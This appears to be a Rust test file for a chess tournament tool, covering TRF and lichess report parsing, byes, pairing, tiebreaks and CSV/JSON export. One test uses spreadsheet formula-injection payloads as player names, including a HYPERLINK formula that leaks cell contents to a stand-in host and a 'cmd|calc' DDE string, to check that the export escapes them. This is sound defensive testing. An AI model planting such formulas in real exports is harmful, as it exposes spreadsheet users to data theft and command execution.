//! Files as other programs and older ones write them: read, with a word on each thing that is read in another way (F16).

use super::{Ended, run};
use giostra::judging::event::Event;
use giostra::judging::exchange;
use serde_json::Value;
use std::fs;
use std::path::Path;
use tempfile::TempDir;

fn tournament(folder: &Path, args: &[&str]) -> Ended {
    run(folder, &[&["tournament"], args].concat())
}

/// A report of these players: name, points, and what stands from column 90 on.
fn report(head: &str, players: &[(&str, &str, &str)]) -> String {
    let line = |(number, (name, points, cells)): (usize, &(&str, &str, &str))| {
        let rating = 2000 - 10 * number;
        format!("001 {number:4}      {name:33} {rating:4} {:27}{points:>4} {:4}{cells}\n", "", "")
    };
    format!("012 Event\n{head}{}", (1..).zip(players).map(line).collect::<String>())
}

fn file(folder: &Path, text: &str) -> String {
    fs::write(folder.join("event.trf"), text).unwrap();
    "event.trf".to_owned()
}

impl Ended {
    /// Done, with so many notes on standard error: both.
    #[track_caller]
    fn noted(self, notes: usize) -> (String, String) {
        assert_eq!((self.code, self.err.lines().count()), (Some(0), notes), "{self:?}");
        (self.out, self.err)
    }
}

/// A spreadsheet counts with a cell that begins with one of these signs, in quotes too.
#[test]
fn no_name_is_a_formula_in_a_table() {
    let folder = TempDir::new().unwrap();
    let path = folder.path();
    let names = ["=HYPERLINK(\"http://e/\"&A1)", "+1+cmd|calc", "-2+3", "@SUM(A1)"];
    let players = names.map(|name| (name, "0.0", ""));
    let table = tournament(path, &["export", &file(path, &report("", &players)), "--format", "csv"]).done();
    for name in names {
        let cell = format!(",\"'{}\",", name.replace('"', "\"\""));
        assert!(table.contains(&cell), "{cell} is not in {table}");
    }
    // JSON goes through letters that no report has.
    let mut event: Value =
        serde_json::from_str(&tournament(path, &["export", "event.trf", "--format", "json"]).done()).unwrap();
    for (at, name) in ["＝1+1", "＠x", "\u{200b}=1", " \t-A1"].iter().enumerate() {
        event["players"][at]["name"] = Value::from(*name);
    }
    fs::write(path.join("event.json"), event.to_string()).unwrap();
    let table = tournament(path, &["export", "event.json", "--format", "csv"]).done();
    for name in ["＝1+1", "＠x", "\u{200b}=1", " \t-A1"] {
        assert!(table.contains(&format!(",\"'{name}\",")), "{name:?} is not in {table}");
    }
    // Ratings, points and results stay numbers.
    assert!(table.lines().nth(1).unwrap().contains(",1990,0"), "{table}");
    let example =
        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/formats/adventure.toml"));
    let text = example.unwrap();
    let jury = Event::read(&text).unwrap();
    let team = jury.teams().first().expect("a team").name.clone();
    let jury = Event::read(&text.replace(&format!("\"{team}\""), "\"＝A1\"")).unwrap();
    assert!(exchange::to_csv(&jury).contains("'＝A1"), "{}", exchange::to_csv(&jury));
}

/// lichess: a lone `-` in a round that is over, `0000   -` in the one to come.
#[test]
fn a_report_of_lichess_is_read() {
    let folder = TempDir::new().unwrap();
    let path = folder.path();
    let text = report(
        "092 Individual: Swiss-System\nXXR 3\nXXC white1\n",
        &[
            ("anna", "2.0", "     2 w 1     3 b 1"),
            ("bruno", "1.0", "     1 b 0         U"),
            ("carla", "0.5", "     4 w =     1 w 0"),
            ("dino", "0.5", "     3 b =         -  0000   -"),
        ],
    );
    let event = file(path, &text);
    let (table, notes) = tournament(path, &["tiebreaks", &event, "--json"]).noted(1);
    assert!(table.contains(r#"{"player":4,"points":"0.5""#), "{table}");
    assert!(
        notes.contains("event.trf, riga 8, colonna 102: «-»") && notes.contains("turni: 2, 3"),
        "{notes}"
    );
    assert_eq!(tournament(path, &["pair", &event]).noted(1).0, "2\n2 3\n1 0\n");
    // What goes out is written as reports are today, and needs no word.
    let out = tournament(path, &["export", &event, "--format", "trf"]).noted(1).0;
    assert!(out.contains("0000 - Z  0000 - Z\r\n"), "{out}");
    assert_eq!(tournament(path, &["tiebreaks", &file(path, &out), "--json"]).done(), table);
}

/// TRF06: `-`, `=` and `+` without an opponent are 0, ½ and 1.
#[test]
fn absences_of_older_reports_are_read() {
    let folder = TempDir::new().unwrap();
    let path = folder.path();
    let text = report(
        "",
        &[
            ("Anna", "1.5", "     2 w 1     4 b ="),
            ("Bruno", "0.0", "     1 b 0  0000 - -"),
            ("Carla", "0.5", "  0000 - =  0000 - -"),
            ("Dino", "1.5", "  0000 - +     1 w ="),
        ],
    );
    let (out, notes) = tournament(path, &["export", &file(path, &text), "--format", "trf"]).noted(4);
    for (cells, player) in [("0000 - H  0000 - Z\r\n", 3), ("0000 - F     1 w =\r\n", 4)] {
        assert!(out.contains(cells) && notes.contains(&format!("giocatore {player},")), "{out}{notes}");
    }
    for (sign, worth) in [("-", "0"), ("=", "½"), ("+", "1")] {
        assert!(
            notes.contains(&format!("«{sign}» senza avversario è letto come un’assenza che vale {worth} ")),
            "{notes}"
        );
    }
    tournament(path, &["tiebreaks", &file(path, &out)]).done();
    // A colour, a result of a game: nobody knows what is meant.
    for (from, to, column) in [("0000 - +", "0000 w +", 97), ("0000 - +", "0000 - 1", 99)] {
        let refused = tournament(path, &["tiebreaks", &file(path, &text.replace(from, to))]);
        refused.refused(1, &format!("event.trf, riga 5, colonna {column}: "));
    }
}

/// Half-point byes that stand blank, while the points count them.
#[test]
fn blanks_follow_the_points() {
    let folder = TempDir::new().unwrap();
    let path = folder.path();
    let rows = |carla: &str| {
        let players = [
            ("Anna", "2.5", "     2 w 1     4 b =     3 w 1"),
            ("Bruno", "0.0", "     1 b 0"),
            ("Carla", carla, "                         1 b 0"),
            ("Dino", "1.0", "               1 w ="),
        ];
        report("", &players)
    };
    // Carla: both blanks. Dino: the one before his game; the other is an absence.
    let (out, notes) = tournament(path, &["export", &file(path, &rows("1.0")), "--format", "trf"]).noted(2);
    assert!(out.contains("0000 - H  0000 - H     1 b 0\r\n"), "{out}");
    assert!(out.contains("0000 - H     1 w =  0000 - Z\r\n"), "{out}");
    assert!(notes.contains("riga 4, colonna 92:") && notes.contains("(giocatore 3, turni: 1, 2)"), "{notes}");
    tournament(path, &["tiebreaks", &file(path, &out)]).done();
    // One of two: nobody has said which.
    tournament(path, &["tiebreaks", &file(path, &rows("0.5"))]).refused(1, "event.trf, riga 4, colonna 81: ");
    tournament(path, &["tiebreaks", &file(path, &rows("1.5"))]).refused(1, "event.trf, riga 4, colonna 81: ");
}

/// `U` in the coming round: the arbiter has given the bye, and the others are there.
#[test]
fn a_bye_that_the_arbiter_has_given_is_kept() {
    let folder = TempDir::new().unwrap();
    let path = folder.path();
    let players = |others: [&str; 2]| {
        let [third, fifth] = others.map(|cell| format!("     1 b 0{cell}"));
        let fifth = fifth.replace("     1 b 0", "  0000 - U");
        let rows = [
            ("Anna", "1.0", "     3 w 1"),
            ("Bruno", "1.0", "     4 b 1"),
            ("Carla", "0.0", third.as_str()),
            ("Dino", "0.0", "     2 w 0  0000 - U"),
            ("Elio", "1.0", fifth.as_str()),
        ];
        report("XXR 4\n", &rows)
    };
    let event = file(path, &players(["", ""]));
    let (pairs, notes) = tournament(path, &["pair", &event]).noted(1);
    assert!(pairs.starts_with("3\n") && pairs.ends_with("\n4 0\n"), "{pairs}");
    assert!(notes.contains("riga 6, colonna 102") && notes.contains("turno 2"), "{notes}");
    let told: Value =
        serde_json::from_str(&tournament(path, &["pair", &event, "--json"]).noted(1).0).unwrap();
    assert_eq!((&told["round"], &told["bye"], &told["rest"]), (&2.into(), &4.into(), &Value::Null));
    // Another one away leaves nobody for somebody else, and there is no second bye.
    let odd = tournament(path, &["pair", &file(path, &players(["  0000 - Z", ""]))]);
    assert_eq!((odd.code, odd.out.as_str()), (Some(1), ""), "{odd:?}");
    let two = tournament(path, &["pair", &file(path, &players(["", "  0000 - U"]))]);
    two.refused(1, "riga 7, colonna 102: ");
    // The arbiter's bye goes through JSON, and counts where the report goes out.
    let counted = players(["", ""]).replacen(" 0.0          2 w 0", " 1.0          2 w 0", 1);
    let json = tournament(path, &["export", &file(path, &counted), "--format", "json"]).noted(1).0;
    fs::write(path.join("event.json"), json).unwrap();
    assert_eq!(tournament(path, &["pair", "event.json"]).done(), pairs);
    let again = tournament(path, &["export", "event.json", "--format", "trf"]).done();
    assert_eq!(tournament(path, &["pair", &file(path, &again)]).noted(1).0, pairs);
}

/// Where everybody has met everybody it may still be a Swiss event.
#[test]
fn a_small_swiss_event_is_no_round_robin() {
    let folder = TempDir::new().unwrap();
    let path = folder.path();
    let all = [
        ("Anna", "2.5", "     4 w 1     2 w 1     3 b ="),
        ("Bruno", "2.0", "     3 w 1     1 b 0     4 w 1"),
        ("Carla", "1.5", "     2 b 0     4 b 1     1 w ="),
        ("Dino", "0.0", "     1 b 0     3 w 0     2 b 0"),
    ];
    let bare = file(path, &report("", &all));
    tournament(path, &["tiebreaks", &bare, "--order", "BH"]).refused(2, "BH");
    tournament(path, &["tiebreaks", &bare, "--order", "BH", "--swiss"]).done();
    let table = tournament(path, &["export", &bare, "--format", "csv", "--swiss"]).done();
    assert!(table.starts_with("rank,number,name,rating,points,R1,R2,R3,BH/C1,BH,"), "{table}");
    assert_eq!(tournament(path, &["tiebreaks", &bare, "--swiss", "--round-robin"]).code, Some(2));
    for head in ["092 Individual: Swiss-System\n", "092 Torneo svizzero\n", "XXR 3\nXXC white1\n"] {
        let event = file(path, &report(head, &all));
        tournament(path, &["tiebreaks", &event, "--order", "BH"]).done();
        for format in ["csv", "html"] {
            let out = tournament(path, &["export", &event, "--format", format]).done();
            assert!(out.contains("BH/C1") || out.contains("Buchholz"), "{head}{out}");
        }
    }
    // Ours say how they were paired.
    let event = file(path, &report("192 CUSTOM_SWISS\n152 W\n", &all));
    tournament(path, &["tiebreaks", &event, "--order", "BH"]).refused(2, "BH");
    let table = tournament(path, &["tiebreaks", &event, "--order", "KS,PTS"]).done();
    assert_eq!((table.matches("PTS").count(), table.matches("KS").count()), (1, 1), "{table}");
}

/// What people have noted beside the moves, and moves that were none.
#[test]
fn signs_of_other_chess_programs_are_read_over() {
    let folder = TempDir::new().unwrap();
    let path = folder.path();
    fs::write(path.join("game.pgn"), "1. e4± ± 1... e5 +- N 2. Nf3⩲ -- *\n").unwrap();
    let out = run(path, &["game", "extinction", "pgn", "game.pgn", "--json"]).done();
    assert!(out.contains("Nf3") && !out.contains('⩲'), "{out}");
}
